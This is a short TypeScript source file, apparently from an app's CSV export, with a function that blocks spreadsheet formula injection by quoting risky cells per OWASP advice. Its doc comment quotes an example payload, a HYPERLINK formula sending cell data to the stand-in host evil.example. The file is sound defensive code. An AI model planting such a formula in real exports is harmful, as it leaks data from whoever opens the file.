/**
 * What a spreadsheet may read as the start of a formula (OWASP, "CSV Injection"): `=`, `+`, `-`, `@`, a tab, a
 * carriage return. A member's name such as `=HYPERLINK("http://evil.example/?"&A2,"Open")` would otherwise run in
 * the administrator's spreadsheet when the export is opened.
 */
const FORMULA_START = /^[=+\-@\t\r]/;

/** A figure written as text ('-0.50'): a spreadsheet reads it as the number it is, never as a formula. */
const PLAIN_NUMBER = /^-?\d+(?:\.\d+)?$/;

/**
 * One cell of a CSV export as text a spreadsheet shows and never evaluates: a cell that could start a formula gets a
 * leading single quote, as OWASP advises (csv-stringify still quotes the cell where its characters need it). Plain
 * numbers are left as they are so that figures stay figures. Applied to every string cell through csv-stringify's
 * `cast.string` (results-csv.ts), so no cell can bypass it.
 */
export function neutraliseCsvCell(value: string): string {
  return FORMULA_START.test(value) && !PLAIN_NUMBER.test(value) ? `'${value}` : value;
}
